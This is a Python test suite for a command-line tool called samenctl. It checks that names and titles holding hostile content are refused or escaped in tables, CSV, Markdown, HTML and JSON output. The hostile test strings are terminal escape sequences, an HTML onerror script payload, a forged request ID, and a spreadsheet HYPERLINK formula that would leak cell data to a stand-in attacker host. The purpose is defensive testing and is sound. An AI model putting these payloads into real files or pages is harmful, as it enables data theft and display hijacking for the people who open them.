#!/usr/bin/python3
"""Content that cannot harm whoever reads it, through the real stack:
hostile text is refused at input or stored, and whatever samenctl prints
of it - tables, field lists, refusals, CSV, Markdown, HTML, JSON - holds no
raw control character, no formula a spreadsheet would run and no HTML a
renderer would obey."""
import csv
import io
import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import samentest as st  # noqa: E402

ESC_CR = "Wmo\x1b[2J\x1b]0;owned\x07taxi\rGOOD"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
HTML = "<img src=x onerror=alert(1)> | Zorg & Welzijn"


def harmless(text, what):
    """No control character but new lines (and the tab of nothing)."""
    bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f
           or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069]
    st.check(not bad, f"{what} holds raw control characters {bad!r}: {text!r}")


def ctl(stack, *args, rc=None):
    code, out, err = stack.ctl(*args)
    if rc is not None:
        st.eq(code, rc, f"samenctl {' '.join(args)!r} exit code (stderr: {err.strip()!r})")
    harmless(out, f"stdout of samenctl {args!r}")
    harmless(err, f"stderr of samenctl {args!r}")
    return code, out, err


@st.test(services=["finance", "intake", "scheduling"])
def a_title_or_name_with_escape_and_carriage_return_is_refused_or_printed_escaped(stack):
    # scheduling: a theme title
    code, out, err = ctl(stack, "theme", "add", ESC_CR, "--domain", "social_support", "--year",
                         "2020")
    st.check(code in (0, 1, 2), f"theme add with ESC and CR is stored or refused: {code} {err!r}")
    if code == 2:  # refused by samenctl from scheduling's declaration, before sending
        st.check("TITLE contains a control character (U+001B)" in err, err)
    elif code == 1:
        st.check("title" in err, f"the refusal names the field: {err!r}")
    else:
        for args in (("theme", "list"), ("theme", "show", "T1"), ("--format", "md", "theme", "list"),
                     ("--format", "csv", "theme", "list")):
            _, out, _ = ctl(stack, *args, rc=0)
            st.check("\\x1b[2J" in out, f"{args}: the escape is shown, not sent: {out!r}")
    # intake: a participant's name, refused by samenctl from intake's declaration
    code, out, err = ctl(stack, "participant", "add", ESC_CR, "--consent", rc=2)
    st.check("NAME contains a control character (U+001B)" in err, err)
    st.eq(stack.ok("intake", "service.info")["last_seq"], 0, "nothing was sent")
    # The same through `call` (no declaration involved): refused, printed harmlessly.
    code, out, err = ctl(stack, "call", "intake", "participant.register",
                         json.dumps({"name": ESC_CR, "consent": True}), "--json", rc=1)
    st.eq(json.loads(out)["error"]["field"], "name", "the refusal as JSON")


@st.test(services=["finance", "intake"])
def a_formula_is_stored_as_text_and_never_runs_in_a_spreadsheet(stack):
    ctl(stack, "participant", "add", FORMULA, "--consent", rc=0)
    ctl(stack, "participant", "add", "-2+3 Jansen", "--consent", rc=0)
    ctl(stack, "participant", "add", "@Piet", "--consent", "--target-group", "+ouders", rc=0)
    _, out, _ = ctl(stack, "--format", "csv", "participant", "list", rc=0)
    rows = list(csv.reader(io.StringIO(out)))
    st.eq(rows[0][:2], ["ID", "NAME"], "heading")
    names = [r[1] for r in rows[1:]]
    st.eq(names, ["'" + FORMULA, "'-2+3 Jansen", "'@Piet"], "formulas defused, quoted right")
    st.eq(rows[3][6], "'+ouders", "every column")
    for r in rows[1:]:
        st.check(not r[1][0] in "=+-@\t\r", f"no cell starts a formula: {r}")
    # The JSON keeps the value as it is: scripts get the data.
    _, out, _ = ctl(stack, "--json", "participant", "list", rc=0)
    st.eq(json.loads(out)["participants"][0]["name"], FORMULA, "JSON as stored")


@st.test(services=["finance", "intake"])
def markdown_and_html_escape_what_came_from_outside(stack):
    ctl(stack, "organisation", "add", HTML, "--kind", "association", rc=0)
    _, out, _ = ctl(stack, "--format", "md", "organisation", "list", rc=0)
    row = out.splitlines()[2]
    st.check("&lt;img src=x onerror=alert(1)&gt; \\| Zorg &amp; Welzijn" in row, row)
    st.check("<img" not in out, out)
    _, out, _ = ctl(stack, "--format", "html", "organisation", "list", rc=0)
    st.check("<td>&lt;img src=x onerror=alert(1)&gt; | Zorg &amp; Welzijn</td>" in out, out)
    st.check("<img" not in out, out)


@st.test(services=["intake"])
def a_request_id_with_a_new_line_is_refused_and_printed_harmlessly(stack):
    # From samenctl: SAMEN_RID is checked before anything is sent.
    code, out, err = stack.ctl("participant", "add", "Jan", "--consent")  # warm up: works
    st.eq(code, 0, err)
    import subprocess
    env = dict(os.environ, SAMEN_RID="x\n\x1b[31mFAKE 200 OK")
    p = subprocess.run([os.path.join(st.BIN, "samenctl"), "--broker", stack.broker_ep,
                        "participant", "add", "Piet", "--consent"], capture_output=True,
                       text=True, env=env, timeout=30)
    st.eq(p.returncode, 2, f"exit code ({p.stderr!r})")
    harmless(p.stdout + p.stderr, "samenctl's answer to a bad SAMEN_RID")
    st.check("SAMEN_RID" in p.stderr, p.stderr)
    # From another client straight to the service: refused, field rid.
    r = stack.call("intake", "participant.register", {"name": "Piet", "consent": True},
                   rid="x\n\x1b[31mFAKE")
    st.eq((r["ok"], r["error"]["field"]), (False, "rid"), f"refused: {r}")
    st.eq(stack.ok("intake", "participant.find", {"name": "Piet"})["participants"], [],
          "nothing stored")
    # Whatever the audit log holds of it prints harmlessly.
    ctl(stack, "audit", "list", "--service", "intake", rc=0)
    ctl(stack, "audit", "list", "--service", "intake", "--json", rc=0)


if __name__ == "__main__":
    st.main()
